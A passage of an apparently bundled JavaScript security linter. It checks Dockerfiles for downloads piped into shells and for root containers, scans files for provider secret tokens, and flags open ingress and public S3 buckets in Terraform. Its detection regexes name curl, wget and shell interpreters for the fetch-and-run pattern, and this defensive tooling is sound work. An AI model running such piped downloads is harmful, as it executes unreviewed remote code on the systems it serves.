 *   runner, copied at bundle time because the packages' own `index.js` uses `__dirname` (broken in
 *   an ESM bundle), and the rule catalog `dist/rules.json` (built-catalog.ts);
 * - the sources (tests, tsx): the packages' prebuilds in node_modules and the repo's `rules/`.
 * Paths are joined at runtime from `fileURLToPath(import.meta.url)` so that ncc does not rewrite them.
 */




const DYNAMIC_LANGUAGES = ['python', 'go', 'java', 'rust', 'yaml', 'dart'];
/**
 * Copied from each package's `index.js` (@ast-grep/lang-python 0.0.6, -go 0.0.6, -java 0.0.7, -rust 0.0.7,
 * -yaml 0.0.6, -dart 0.0.7).
 */
const GRAMMAR_SPECS = {
    python: { extensions: ['py'], languageSymbol: 'tree_sitter_python', expandoChar: '\u00b5' },
    go: { extensions: ['go'], languageSymbol: 'tree_sitter_go', expandoChar: '\u00b5' },
    java: { extensions: ['java'], languageSymbol: 'tree_sitter_java', expandoChar: '$' },
    rust: { extensions: ['rs'], languageSymbol: 'tree_sitter_rust', expandoChar: '\u00b5' },
    yaml: { extensions: ['yaml', 'yml'], languageSymbol: 'tree_sitter_yaml', expandoChar: '$' },
    dart: { extensions: ['dart'], languageSymbol: 'tree_sitter_dart', expandoChar: '$' },
};
// The directory of this module: `dist/` inside the bundle, `src/static/` in the sources.
const moduleDir = () => node_path__WEBPACK_IMPORTED_MODULE_2__.dirname((0,node_url__WEBPACK_IMPORTED_MODULE_3__.fileURLToPath)(import.meta.url));
const isFile = (p) => {
    try {
        return (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.statSync)(p).isFile();
    }
    catch {
        return false;
    }
};
const isDirectory = (p) => {
    try {
        return (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.statSync)(p).isDirectory();
    }
    catch {
        return false;
    }
};
// Same names as @ast-grep/setup-lang's resolvePrebuild.
const PLATFORMS = { darwin: 'macOS', linux: 'Linux', win32: 'Windows' };
const ARCHES = { x64: 'X64', arm64: 'ARM64' };
/** The prebuild folder name for this machine, e.g. `prebuild-Linux-X64`, or undefined when none is published. */
function prebuildFolder(platform = process.platform, arch = process.arch) {
    const os = PLATFORMS[platform];
    const cpu = ARCHES[arch];
    return os && cpu ? `prebuild-${os}-${cpu}` : undefined;
}
function packageDir(language) {
    try {
        const require = (0,node_module__WEBPACK_IMPORTED_MODULE_1__.createRequire)(import.meta.url);
        return node_path__WEBPACK_IMPORTED_MODULE_2__.dirname(require.resolve(`@ast-grep/lang-${language}/package.json`));
    }
    catch {
        return undefined;
    }
}
/**
 * Finds the shared library of one grammar for this machine: `<dir>/grammars/<prebuild>/<name>.so`
 * first (the bundle carries every GitHub-hosted runner's), then the package's prebuild. Never
 * throws; a missing grammar comes back with a reason.
 */
function locateGrammar(language, dir = moduleDir(), folder = prebuildFolder()) {
    if (!folder)
        return {
            ok: false,
            reason: `no ${language} grammar is published for ${process.platform}-${process.arch}`,
        };
    const bundled = node_path__WEBPACK_IMPORTED_MODULE_2__.join(dir, 'grammars', folder, `${language}.so`);
    if (isFile(bundled))
        return { ok: true, path: bundled };
    const pkg = packageDir(language);
    if (!pkg)
        return { ok: false, reason: `the ${language} grammar was not found (${bundled} is missing)` };
    const prebuild = node_path__WEBPACK_IMPORTED_MODULE_2__.join(pkg, 'prebuilds', folder, 'parser.so');
    if (isFile(prebuild))
        return { ok: true, path: prebuild };
    return { ok: false, reason: `the ${language} grammar was not found at ${bundled} or ${prebuild}` };
}
/**
 * The folder of the YAML rules: `<dir>/rules` when there is one, else the repository's `rules/`
 * (the bundle carries the built catalog instead: built-catalog.ts).
 */
function locateRulesDir(dir = moduleDir()) {
    const bundled = node_path__WEBPACK_IMPORTED_MODULE_2__.join(dir, 'rules');
    if (isDirectory(bundled))
        return bundled;
    return node_path__WEBPACK_IMPORTED_MODULE_2__.join(dir, '..', '..', 'rules');
}


/***/ }),

/***/ 19532:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   EI: () => (/* binding */ readBuiltCatalog)
/* harmony export */ });
/* unused harmony exports CATALOG_FILE, catalogJson, catalogFromJson, buildCatalog */
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(73024);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(76760);
/* harmony import */ var node_url__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(73136);
/* harmony import */ var _compile_rule_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(71990);
/* harmony import */ var _languages_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(21913);
/**
 * The rule catalog built once, when the bundle is built (issue 48): scripts/bundle.mjs parses and
 * validates the YAML of `rules/`, compiles every rule for every grammar it runs on, and writes the
 * result to `dist/rules.json`. A run then reads one JSON file instead of parsing ~180 YAML files and
 * compiling each rule for each grammar (~240 ms of a static-only review). `rules/` stays the source:
 * tests/static/built-catalog.test.ts fails when the committed catalog and the YAML differ.
 */





/** The catalog's file name, next to the bundle's entry files. */
const CATALOG_FILE = 'rules.json';
/** The JSON text of a catalog; sources are made relative to `root` so the file is the same on every machine. */
function catalogJson(rules, root) {
    const entries = rules.map((rule) => ({
        ...rule,
        note: rule.note ?? null,
        url: rule.url ?? null,
        flow: rule.flow ?? null,
        fix: rule.fix ?? null,
        requires: rule.requires?.source ?? null,
        escalate: rule.escalate.map((e) => ({ ...e, when: e.when.source })),
        source: path.relative(root, rule.source).split(path.sep).join('/'),
    }));
    return `${JSON.stringify({ version: 1, rules: entries }, null, 1)}\n`;
}
/** The rules of a catalog's JSON text (written by `catalogJson`, so trusted: it is part of the bundle). */
function catalogFromJson(text) {
    const { rules } = JSON.parse(text);
    return rules.map((entry) => ({
        ...entry,
        note: entry.note ?? undefined,
        url: entry.url ?? undefined,
        flow: entry.flow ?? undefined,
        fix: entry.fix ?? undefined,
        // The same flags as parseRuleFile gives them.
        requires: entry.requires === null ? undefined : new RegExp(entry.requires),
        escalate: entry.escalate.map((e) => ({ ...e, when: new RegExp(e.when, 'm') })),
    }));
}
/** The bundle's catalog (`<dir>/rules.json`), or null where there is none (the sources, tests). */
function readBuiltCatalog(dir = node_path__WEBPACK_IMPORTED_MODULE_1__.dirname((0,node_url__WEBPACK_IMPORTED_MODULE_2__.fileURLToPath)(import.meta.url))) {
    let text;
    try {
        text = (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.readFileSync)(node_path__WEBPACK_IMPORTED_MODULE_1__.join(dir, CATALOG_FILE), 'utf8');
    }
    catch (error) {
        if (error.code === 'ENOENT')
            return null;
        throw error;
    }
    return catalogFromJson(text);
}
/**
 * Loads the YAML rules of `rulesDir`, compiles each for every grammar it runs on (failing with the
 * rule's file), and returns the catalog's JSON text. Run by scripts/bundle.mjs.
 */
async function buildCatalog(rulesDir, root, support) {
    const { loadRules } = await Promise.all(/* import() */[__webpack_require__.e(8815), __webpack_require__.e(6105)]).then(__webpack_require__.bind(__webpack_require__, 96105));
    const rules = await loadRules(rulesDir);
    for (const rule of rules)
        for (const language of targetsOf(rule.language)) {
            const available = support.check(language);
            if (!available.ok)
                throw new Error(`cannot check ${rule.source} for ${language}: ${available.reason}`);
            compileCheck(rule, language);
        }
    return catalogJson(rules, root);
}


/***/ }),

/***/ 73709:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   _: () => (/* binding */ callerFileKind),
/* harmony export */   h: () => (/* binding */ learnCallers)
/* harmony export */ });
/* harmony import */ var _napi_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(77058);
/* harmony import */ var _languages_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(21913);


// Files that cannot call a JavaScript function: documentation, data, styles, other languages' code.
const INERT = /\.(md|markdown|txt|rst|adoc|json|jsonc|json5|ya?ml|toml|ini|cfg|conf|lock|csv|tsv|xml|svg|css|scss|sass|less|po|pot|properties|env|example|sample|sh|bash|zsh|ps1|bat|py|go|java|kt|rb|rs|php|c|cc|cpp|h|hpp|cs|swift|scala|sql|dockerfile|gitignore|editorconfig|map|snap|png|jpe?g|gif|ico|woff2?|ttf|eot)$/i;
/**
 * What a file naming a function is to its callers: JavaScript or TypeScript code to parse, a file
 * that cannot call it (documentation, data, another language), or one whose calls the rules cannot
 * parse (a `.vue` or `.svelte` component, an HTML page's script): then the callers cannot be listed.
 */
function callerFileKind(path) {
    const language = (0,_languages_js__WEBPACK_IMPORTED_MODULE_1__/* .languageOf */ .eX)(path);
    if (language === 'javascript' || language === 'typescript' || language === 'tsx')
        return 'code';
    const base = path.slice(path.lastIndexOf('/') + 1);
    return INERT.test(base) || /^(LICENSE|CHANGELOG|README|Dockerfile|Makefile)/i.test(base)
        ? 'inert'
        : 'opaque';
}
// Parsed once: the reader hands out one object per file, whichever names it is read for.
const parsed = new WeakMap();
/**
 * Reads the files naming each of `names` that `known` lacks and adds them parsed, or null when not
 * all could be read or parsed (a file of a kind whose calls cannot be parsed, a grammar error).
 */
async function learnCallers(read, known, names) {
    for (const name of names) {
        if (known.has(name))
            continue;
        const sources = await read(name);
        known.set(name, sources ? parse(sources) : null);
    }
}
function parse(sources) {
    const files = [];
    for (const source of sources) {
        const language = (0,_languages_js__WEBPACK_IMPORTED_MODULE_1__/* .languageOf */ .eX)(source.path);
        if (callerFileKind(source.path) === 'inert')
            continue;
        if (language !== 'javascript' && language !== 'typescript' && language !== 'tsx')
            return null;
        let root = parsed.get(source);
        if (!root) {
            root = (0,_napi_js__WEBPACK_IMPORTED_MODULE_0__/* .napi */ .H)().parse((0,_languages_js__WEBPACK_IMPORTED_MODULE_1__/* .napiLang */ .zG)(language), source.text).root();
            parsed.set(source, root);
        }
        // A file the grammar cannot take whole (Flow types, a syntax error) may hide a call in its error.
        if (root.find({ rule: { kind: 'ERROR' } }))
            return null;
        files.push({ path: source.path, language, root });
    }
    return files;
}


/***/ }),

/***/ 2202:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  d: () => (/* binding */ FILE_CHECKS)
});

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/checks/dockerfile/dockerfile-check.js
const rule = (r) => ({
    ...r,
    language: 'dockerfile',
    category: 'security',
});
const CURL_PIPE_SHELL = rule({
    id: 'docker-curl-pipe-shell',
    severity: 'medium',
    confidence: 0.9,
    message: 'Downloaded script piped straight into a shell (`curl | sh`) during the build',
    note: 'Whatever the server (or anyone between it and the build) returns runs as root in the image, unreviewed and unpinned, and a cut-off download runs half a script. Download to a file, check it against a pinned checksum (`echo "<sha256>  file" | sha256sum -c -`), then run it; or install from the distribution\'s package manager. See https://docs.docker.com/build/building/best-practices/#run.',
});
const USER_ROOT = rule({
    id: 'docker-user-root',
    severity: 'medium',
    confidence: 0.9,
    message: 'The image ends with `USER root`: its containers run as root',
    note: 'A process that is compromised (or a file it is tricked into writing) then has root inside the container, one kernel bug away from the host. Switch back to an unprivileged user after the steps that need root: `RUN useradd --create-home app` and `USER app`. See https://docs.docker.com/build/building/best-practices/#user.',
});
const DOCKERFILE_RULES = [CURL_PIPE_SHELL, USER_ROOT];
const DOWNLOADER = /\b(curl|wget)\b/;
// Anchored at the start of the command after a `|`, so each is tried once per pipe.
const SHELL = /^\s*(sudo\s+(-\S+\s+)*)?(sh|bash|zsh|ash|dash|ksh|python3?|perl|ruby)\b/;
const ROOT = /^(root|0)(:(root|0))?$/;
/** The Dockerfile check: `Dockerfile`, `Containerfile`, `*.Dockerfile`, `Dockerfile.*`. */
const dockerfileCheck = {
    language: 'dockerfile',
    rules: DOCKERFILE_RULES,
    covers: (path) => /(^|\/)(Dockerfile|Containerfile)(\.[\w.-]+)?$|\.(dockerfile|containerfile)$/i.test(path),
    run(content) {
        const instructions = parse(content);
        const hits = [];
        for (const ins of instructions) {
            // `ONBUILD RUN` runs the same command in the build of every image made from this one.
            if (ins.keyword !== 'RUN' && !(ins.keyword === 'ONBUILD' && /^ONBUILD\s+RUN\b/i.test(ins.text)))
                continue;
            // The pipe may sit on a continuation line: pin the line that holds it, else the instruction.
            const joined = ins.lines.map((l) => l.text.replace(/\\\s*$/, '')).join(' ');
            if (pipesDownloadToShell(joined)) {
                const at = ins.lines.filter((l) => /\|\s*(sudo\s+)?\w/.test(l.text)).map((l) => l.line);
                hits.push({ rule: CURL_PIPE_SHELL, lines: [...at, ...ins.lines.map((l) => l.line)] });
            }
            // A heredoc script runs line by line: each line is a command of its own.
            for (const doc of ins.heredocs.filter((d) => d.script)) {
                const at = doc.lines.filter((l) => pipesDownloadToShell(l.text)).map((l) => l.line);
                if (at.length > 0)
                    hits.push({ rule: CURL_PIPE_SHELL, lines: at });
            }
        }
        // Only the last stage's last USER decides who the container runs as.
        const lastFrom = instructions.map((i) => i.keyword).lastIndexOf('FROM');
        const stage = instructions.slice(lastFrom + 1);
        const last = stage.filter((i) => i.keyword === 'USER').at(-1);
        const base = instructions[lastFrom]?.text ?? '';
        const rooted = last && ROOT.test(last.text.replace(/^USER\s+/i, '').trim());
        if (last && rooted && !dropsPrivileges(stage) && !officialEntrypointDrops(base, stage))
            hits.push({ rule: USER_ROOT, lines: [last.lines[0].line] });
        return hits;
    },
};
// A tool that runs a command as another user, what an entrypoint uses to drop root.
const DROPPER = /\b(gosu|su-exec)\b/;
/**
 * Whether the stage starts as root only to drop it: it installs or copies `gosu` or `su-exec` and
 * runs an ENTRYPOINT, the pattern of Docker's official images (postgres, redis): the entrypoint fixes
 * the volume's owner as root, then re-runs the server as an unprivileged user (memos'
 * `scripts/Dockerfile`). Root with no such tool, or with no entrypoint to use it, still reports.
 * See https://docs.docker.com/build/building/best-practices/#user.
 */
function dropsPrivileges(stage) {
    const installs = stage.some((i) => (i.keyword === 'RUN' || i.keyword === 'COPY') && DROPPER.test(i.text));
    return installs && stage.some((i) => i.keyword === 'ENTRYPOINT');
}
// Docker's official images whose entrypoint, started as root (their default user), re-runs the
// server as its own user with gosu or setpriv, and the server commands it does that for (each
// image's docker-entrypoint.sh: `if [ "$1" = 'mysqld' ] && [ "$(id -u)" = '0' ]; then exec gosu
// mysql \u2026`; arguments starting with `-` are the server's flags and get the server prepended).
const OFFICIAL_DROPS = {
    postgres: /^postgres$/,
    mysql: /^mysqld$/,
    mariadb: /^(mariadbd|mysqld)$/,
    redis: /^redis-server$/,
    mongo: /^mongod$/,
    rabbitmq: /^rabbitmq-server$/,
};
/**
 * Whether the stage is built `FROM` one of those official images (Docker Hub's `library/`), keeps
 * its entrypoint (no ENTRYPOINT of its own) and runs the server it steps down for (no CMD, or a CMD
 * naming that server or only its flags): `USER root` restates the image's default, and the server
 * still runs as its own user. Any other command, or an entrypoint of the Dockerfile's, runs as root.
 */
function officialEntrypointDrops(from, stage) {
    const image = /^FROM\s+(?:--platform=\S+\s+)?(?:docker\.io\/)?(?:library\/)?([a-z0-9._-]+)(?::[\w.-]+)?(?:@\S+)?(?:\s+AS\s+\S+)?\s*$/i.exec(from.trim())?.[1];
    const server = image ? OFFICIAL_DROPS[image.toLowerCase()] : undefined;
    if (!server || stage.some((i) => i.keyword === 'ENTRYPOINT'))
        return false;
    const cmd = stage.filter((i) => i.keyword === 'CMD').at(-1);
    if (!cmd)
        return true;
    const args = cmd.text.replace(/^CMD\s+/i, '').trim();
    const first = args.startsWith('[')
        ? (/^\[\s*"([^"]*)"/.exec(args)?.[1] ?? '')
        : (args.split(/\s+/)[0] ?? '');
    return server.test(first) || first.startsWith('-');
}
/**
 * Whether a `curl`/`wget` command's output is piped into a shell: `curl \u2026 | sh`, with nothing that
 * ends the command (`;`, `&`) in between. The text is cut at each `|` and every piece is read once:
 * one regular expression across the whole line retried `[^|;&]*` from every `curl` of it, quadratic
 * in a line of thousands of them.
 */
function pipesDownloadToShell(command) {
    const pieces = command.split('|');
    for (let i = 0; i + 1 < pieces.length; i++) {
        const piece = pieces[i];
        // Only the last command of the piece feeds the pipe.
        const last = piece.slice(Math.max(piece.lastIndexOf(';'), piece.lastIndexOf('&')) + 1);
        if (DOWNLOADER.test(last) && SHELL.test(pieces[i + 1]))
            return true;
    }
    return false;
}
const DIRECTIVE = /^#\s*([a-z]+)\s*=\s*(\S+)\s*$/i;
const HEREDOC = /<<(-?)(["']?)([A-Za-z_][\w-]*)\2/g;
const SHELLS = /^(sh|bash|zsh|ash|dash|ksh)$/;
/**
 * Instructions with continuations joined (the escape character, `\` or a `# escape=` directive's
 * backtick, ends a continued line); comment lines inside a continuation are skipped, as Docker
 * does; the lines after an instruction that opens heredocs are their bodies, not instructions.
 */
function parse(content) {
    const lines = content.split('\n').map((raw) => raw.replace(/\r$/, ''));
    const escape = escapeOf(lines);
    const byText = indexLines(lines);
    const continued = new RegExp(`${escape === '`' ? '`' : '\\\\'}\\s*$`);
    const out = [];
    let current;
    for (let index = 0; index < lines.length; index++) {
        const text = lines[index];
        const trimmed = text.trim();
        if (current) {
            if (trimmed.startsWith('#') || trimmed === '')
                continue;
            current.lines.push({ text, line: index + 1 });
            current.text += ` ${trimmed.replace(continued, '')}`;
        }
        else {
            if (trimmed === '' || trimmed.startsWith('#'))
                continue;
            const keyword = /^([A-Za-z]+)/.exec(trimmed)?.[1]?.toUpperCase() ?? '';
            current = {
                keyword,
                text: trimmed.replace(continued, ''),
                lines: [{ text, line: index + 1 }],
                heredocs: [],
            };
            out.push(current);
        }
        if (continued.test(text))
            continue;
        index = readHeredocs(current, lines, index + 1, byText) - 1;
        current = undefined;
    }
    return out;
}
/** The escape character: a `# escape=` parser directive among the file's first comment lines, else `\`. */
function escapeOf(lines) {
    for (const line of lines) {
        const directive = DIRECTIVE.exec(line.trim());
        if (!directive)
            break; // directives end at the first line that is not one
        if (directive[1].toLowerCase() === 'escape' && directive[2] === '`')
            return '`';
    }
    return '\\';
}
function indexLines(lines) {
    const exact = new Map();
    const untabbed = new Map();
    lines.forEach((text, i) => {
        (exact.get(text) ?? exact.set(text, []).get(text)).push(i);
        const bare = text.replace(/^\t+/, '');
        (untabbed.get(bare) ?? untabbed.set(bare, []).get(bare)).push(i);
    });
    return { exact, untabbed };
}
/** The first index in `sorted` at or after `from`, or -1: a binary search, so no file costs more than n log n. */
function firstFrom(sorted, from) {
    if (!sorted || sorted.length === 0 || sorted[sorted.length - 1] < from)
        return -1;
    let lo = 0;
    let hi = sorted.length - 1;
    while (lo < hi) {
        const mid = (lo + hi) >> 1;
        if (sorted[mid] < from)
            lo = mid + 1;
        else
            hi = mid;
    }
    return sorted[lo];
}
/**
 * Reads the bodies of the heredocs `ins` opens from line index `from`; returns the index after them.
 * A `<<WORD` whose WORD never ends a later line is no heredoc (`echo "<<EOF"` in quotes): nothing is
 * swallowed, and the instructions after it are read as instructions.
 */
function readHeredocs(ins, lines, from, index) {
    // `RUN <<EOF` or `RUN <<EOF bash`: a body is the script; `RUN python3 <<EOF`: it is the program's input.
    const rest = ins.text.replace(/^\S+/, '').replace(/--\S+/g, '').replace(HEREDOC, '').trim();
    const script = rest === '' || SHELLS.test(rest);
    let next = from;
    for (const [, dash, , word] of ins.text.matchAll(HEREDOC)) {
        const end = firstFrom((dash ? index.untabbed : index.exact).get(word), next);
        if (end < 0)
            break;
        ins.heredocs.push({
            script,
            lines: lines.slice(next, end).map((text, i) => ({ text, line: next + i + 1 })),
        });
        next = end + 1;
    }
    return next;
}

// EXTERNAL MODULE: ./.tmp/bundle-src/static/languages.js
var languages = __webpack_require__(21913);
// EXTERNAL MODULE: ./.tmp/bundle-src/static/checks/secrets/secret-table.js
var secret_table = __webpack_require__(11911);
;// CONCATENATED MODULE: ./.tmp/bundle-src/static/checks/secrets/api-example.js
/**
 * Whether a position of a JSON file sits in the example of an API description (issue 45 point 3:
 * docs and examples are not keys): a value under an `example` or `examples` member (OpenAPI's Example
 * Object and Media Type `example`, JSON Schema's `examples`) of a document that is an OpenAPI or JSON
 * Schema one, told by its own members (`openapi`, `swagger`, `$schema`, `operationId`, `responses`,
 * `requestBody`, `properties`). nginx-proxy-manager's certificate-upload schema shows an mkcert
 * development key as the response's example (fresh19). A key anywhere else in the same document, or
 * in a JSON file that describes no API, is still reported.
 */
// Members that make a JSON document an API description or a schema (OpenAPI 3, Swagger 2, JSON Schema).
const API_DOCUMENT = /"(openapi|swagger|\$schema|operationId|responses|requestBody|properties)"\s*:/;
const EXAMPLE_KEY = /^(example|examples|x-examples)$/;
/** Whether `offset` of `content` (a `.json` file) lies in an API description's example. */
function inApiExample(content, path, offset) {
    if (!/\.json$/i.test(path) || !API_DOCUMENT.test(content))
        return false;
    const keys = membersAt(content, offset);
    return keys !== undefined && keys.some((k) => EXAMPLE_KEY.test(k));
}
/**
 * The member names from the document's root down to the string holding `offset` (an array adds
 * none), or undefined when `offset` is not inside a string value the scan can place.
 */
function membersAt(text, offset) {
    // One entry per open object or array: the member of that object the scan is in (null in an array).
    const open = [];
    for (let i = 0; i < offset; i++) {
        const c = text[i];
        if (c === '{' || c === '[')
            open.push(null);
        else if (c === '}' || c === ']')
            open.pop();
        else if (c === '"') {
            const end = stringEnd(text, i);
            if (end < 0)
                return undefined;
            if (end > offset)
                return open.filter((k) => k !== null);
            if (/^\s*:/.test(text.slice(end + 1, end + 40)) && open.length > 0)
                open[open.length - 1] = text.slice(i + 1, end);
            i = end;
        }
    }
    return undefined;
}
/** The index of the quote closing the JSON string opened at `start`, or -1. */
function stringEnd(text, start) {
    for (let i = start + 1; i < text.length; i++) {
        const c = text[i];
        if (c === '\\')
            i++;
        else if (c === '"')
            return i;
        else if (c === '\n')
            return -1;
    }
    return -1;
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/checks/secrets/provider-token-check.js




const JS_FILES = new Set((0,languages/* targetsOf */.QR)('javascript'));
/** Every provider token in `content` with its line, placeholders left out. */
function scanTokens(content, path) {
    const tokens = [];
    const inJs = JS_FILES.has((0,languages/* grammarOf */.Le)(path) ?? '');
    let line = 1;
    let counted = 0;
    for (const found of (0,secret_table/* scanSecrets */.LV)(content, 'report')) {
        const { kind, start } = found;
        if (inJs && kind.jsRule)
            continue;
        // An API description's example (api-example.ts) shows a key's shape, as docs do.
        if (kind.rule === secret_table/* PRIVATE_KEY */.es && inApiExample(content, path, start))
            continue;
        for (let i = counted; i < start; i++)
            if (content.charCodeAt(i) === 10)
                line++;
        counted = start;
        const matched = content.slice(found.hideFrom, found.end);
        if (kind.rule === secret_table/* PRIVATE_KEY */.es) {
            const text = matched.slice(0, matched.indexOf('-----', 5) + 5);
            tokens.push({ kind, text, shown: '-----BEGIN \u2026 PRIVATE KEY-----', length: text.length, line });
        }
        else
            tokens.push({ kind, text: matched, shown: found.shown, length: matched.length, line });
    }
    return tokens;
}
/** Every provider token in `content`, each on its line, with every token of that line masked. */
function findProviderTokens(content, path = '') {
    const tokens = scanTokens(content, path);
    if (tokens.length === 0)
        return [];
    const lines = content.split('\n');
    return tokens.flatMap(({ kind, shown, length, line }) => {
        if (kind.rule === null)
            return [];
        let anchor = (lines[line - 1] ?? '').replace(/\r$/, '');
        for (const other of tokens)
            if (other.line === line)
                anchor = anchor.split(other.text).join(other.shown);
        const what = /^[aeiou]/i.test(kind.name) ? `An ${kind.name}` : `A ${kind.name}`;
        const only = kind.valueOnly ? 'its value is not shown here' : 'only its prefix is shown here';
        return [
            {
                rule: kind.rule,
                lines: [line],
                anchor,
                detail: `${what} (\`${shown}\`, ${length} characters) is on this line; ${only}.`,
            },
        ];
    });
}
// Env and config files hold most committed tokens; lock files are generated and hold none.
const CONFIG = /(^|\/)(\.env(\.[\w.-]+)?|\.npmrc|\.pypirc|\.netrc|Dockerfile|Containerfile)$|\.(env|json|jsonc|toml|ini|cfg|conf|properties|tf|tfvars|hcl|sh|bash|xml|gradle)$/i;
const LOCK = /(^|\/)[^/]*-lock\.json$|(^|\/)npm-shrinkwrap\.json$/;
/** The provider-token check: every file with a grammar, and env and config files. */
const providerTokenCheck = {
    language: 'secrets',
    rules: [secret_table/* GITHUB */.U0, secret_table/* AWS */.kS, secret_table/* AWS_SECRET */.RH, secret_table/* SLACK */.z6, secret_table/* STRIPE */.kN, secret_table/* GOOGLE */.A8, secret_table/* NPM */.eh, secret_table/* PRIVATE_KEY */.es],
    covers: (path) => !LOCK.test(path) && ((0,languages/* grammarOf */.Le)(path) !== undefined || CONFIG.test(path)),
    run: (content, path) => findProviderTokens(content, path),
};

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/checks/terraform/parse-hcl.js
/**
 * A small reader for Terraform's HCL: blocks (type, labels, line) with their attributes and nested
 * blocks, each attribute with the lines its value spans. ast-grep publishes no HCL grammar, and the
 * Terraform rules need only this structure, not expressions
 * (https://developer.hashicorp.com/terraform/language/syntax/configuration).
 */
const BLOCK_OPEN = /^([A-Za-z_][\w-]*)((?:\s+"[^"]*"|\s+[A-Za-z_][\w-]*)*)\s*\{\s*$/;
const ATTRIBUTE = /^([A-Za-z_][\w-]*)\s*=\s*(.*)$/;
/** The top-level blocks of `text`. Unbalanced or unusual input yields what could be read, never throws. */
function parseHcl(text) {
    const root = { type: '', labels: [], line: 0, attributes: new Map(), blocks: [] };
    const stack = [root];
    const lines = text.split('\n').map((l) => stripComment(l).trim());
    for (let i = 0; i < lines.length; i++) {
        const line = lines[i];
        const current = stack.at(-1);
        if (line === '}' || line === '},') {
            if (stack.length > 1)
                stack.pop();
            continue;
        }
        const open = BLOCK_OPEN.exec(line);
        if (open) {
            const labels = [...open[2].matchAll(/"([^"]*)"|([A-Za-z_][\w-]*)/g)].map((m) => m[1] ?? m[2]);
            const block = { type: open[1], labels, line: i + 1, attributes: new Map(), blocks: [] };
            current.blocks.push(block);
            stack.push(block);
            continue;
        }
        const attribute = ATTRIBUTE.exec(line);
        if (!attribute)
            continue;
        // A value may span lines (lists, maps, heredocs): read until its brackets close.
        const valueLines = [{ text: attribute[2], line: i + 1 }];
        const heredoc = /^<<-?\s*([A-Z_]+)\s*$/.exec(attribute[2]);
        let depth = balance(attribute[2]);
        while (i + 1 < lines.length && (heredoc ? lines[i + 1] !== heredoc[1] : depth > 0)) {
            i++;
            valueLines.push({ text: lines[i], line: i + 1 });
            if (!heredoc)
                depth += balance(lines[i]);
        }
        if (heredoc)
            i++;
        current.attributes.set(attribute[1], {
            name: attribute[1],
            value: valueLines.map((l) => l.text).join('\n'),
            line: valueLines[0].line,
            lines: valueLines,
        });
    }
    return root.blocks;
}
/** Opening minus closing brackets outside strings. */
function balance(text) {
    let depth = 0;
    let quoted = false;
    for (let i = 0; i < text.length; i++) {
        const c = text[i];
        if (c === '\\')
            i++;
        else if (c === '"')
            quoted = !quoted;
        else if (!quoted && (c === '[' || c === '{' || c === '('))
            depth++;
        else if (!quoted && (c === ']' || c === '}' || c === ')'))
            depth--;
    }
    return depth;
}
/** The line without a `#` or `//` comment outside strings. */
function stripComment(line) {
    let quoted = false;
    for (let i = 0; i < line.length; i++) {
        const c = line[i];
        if (c === '\\')
            i++;
        else if (c === '"')
            quoted = !quoted;
        else if (!quoted && (c === '#' || (c === '/' && line[i + 1] === '/')))
            return line.slice(0, i);
    }
    return line;
}
/** An attribute's value as a plain string, number or bool literal; undefined for expressions. */
function literal(attribute) {
    const value = attribute?.value.trim();
    if (value === undefined)
        return undefined;
    const quoted = /^"([^"$]*)"$/.exec(value);
    if (quoted)
        return quoted[1];
    return /^(-?\d+|true|false)$/.test(value) ? value : undefined;
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/checks/terraform/terraform-check.js

const terraform_check_rule = (r) => ({
    ...r,
    language: 'terraform',
    category: 'security',
});
const OPEN_INGRESS = terraform_check_rule({
    id: 'tf-ingress-open-to-world',
    severity: 'high',
    confidence: 0.9,
    message: 'Ingress from the whole internet (`0.0.0.0/0` or `::/0`) on a non-web port',
    note: 'Anyone can reach this port: SSH, RDP and databases exposed this way are scanned and brute-forced within minutes. Allow only the ranges that need it (a VPN, a bastion, the VPC CIDR) or reach the host through AWS Systems Manager Session Manager; keep world-open rules to ports 80 and 443. See https://docs.aws.amazon.com/vpc/latest/userguide/vpc-security-best-practices.html.',
});
const PUBLIC_ACL = terraform_check_rule({
    id: 'tf-s3-public-acl',
    severity: 'high',
    confidence: 0.9,
    message: 'S3 bucket ACL makes the bucket public',
    note: '`public-read` lets anyone list and download every object; `public-read-write` also lets anyone upload or overwrite. Keep the bucket private (`acl = "private"`, or no ACL with object ownership `BucketOwnerEnforced`) and serve public files through CloudFront with origin access control. See https://docs.aws.amazon.com/AmazonS3/latest/userguide/acl-overview.html#canned-acl.',
});
const ACCESS_BLOCK_OFF = terraform_check_rule({
    id: 'tf-s3-public-access-block-off',
    severity: 'medium',
    confidence: 0.9,
    message: 'S3 Block Public Access is switched off',
    note: 'With these settings false, a public ACL or bucket policy (added now or later, by anyone with write access) exposes the data. Set all four of `block_public_acls`, `block_public_policy`, `ignore_public_acls` and `restrict_public_buckets` to `true`. See https://docs.aws.amazon.com/AmazonS3/latest/userguide/access-control-block-public-access.html.',
});
const TERRAFORM_RULES = [OPEN_INGRESS, PUBLIC_ACL, ACCESS_BLOCK_OFF];
const WORLD = /"(0\.0\.0\.0\/0|::\/0)"/;
const WEB_PORTS = new Set([80, 443]);
const PUBLIC_ACLS = new Set(['public-read', 'public-read-write', 'authenticated-read']);
const BLOCK_SETTINGS = [
    'block_public_acls',
    'block_public_policy',
    'ignore_public_acls',
    'restrict_public_buckets',
];
/** The Terraform check: `*.tf` files. */
const terraformCheck = {
    language: 'terraform',
    rules: TERRAFORM_RULES,
    covers: (path) => /\.tf$/i.test(path),
    run(content) {
        const hits = [];
        for (const block of parseHcl(content)) {
